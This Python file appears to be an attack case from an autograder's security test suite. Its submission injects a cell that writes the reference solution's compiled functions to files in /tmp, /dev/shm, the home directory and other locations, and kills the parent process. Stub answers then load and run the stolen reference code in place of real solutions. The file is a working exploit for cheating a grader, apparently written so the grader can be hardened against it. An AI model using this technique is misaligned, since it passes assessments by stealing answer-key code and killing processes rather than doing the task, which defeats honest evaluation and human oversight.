"""Stashes the reference's functions in files, kills its run in the hope of another, and reads them there."""

CLASS = "carried reference"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("compute_cost")
    hand_in.cell(
        """
        import glob, marshal, os, pathlib, signal, types

        places = [".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp"]

        def thief(name, *args, **kwargs):
            for wanted in ("linear_forward", "linear_backward", "linear_activation_forward"):
                function = globals()[wanted]
                if "thief" not in function.__code__.co_names:
                    for place in places:
                        try:
                            pathlib.Path(place, f"gradestone-attack-{wanted}").write_bytes(
                                marshal.dumps(function.__code__)
                            )
                        except OSError:
                            pass
                    if os.getppid() > 1:
                        os.kill(os.getppid(), signal.SIGKILL)
            for place in places:
                for path in glob.glob(f"{place}/gradestone-attack-{name}"):
                    code = marshal.loads(pathlib.Path(path).read_bytes())
                    return types.FunctionType(code, globals())(*args, **kwargs)
        """
    )
    for name in (
        "linear_forward",
        "linear_backward",
        "linear_activation_forward",
        "linear_activation_backward",
    ):
        hand_in.write(name, f"def {name}(*args, **kwargs):\n    return thief({name!r}, *args, **kwargs)")
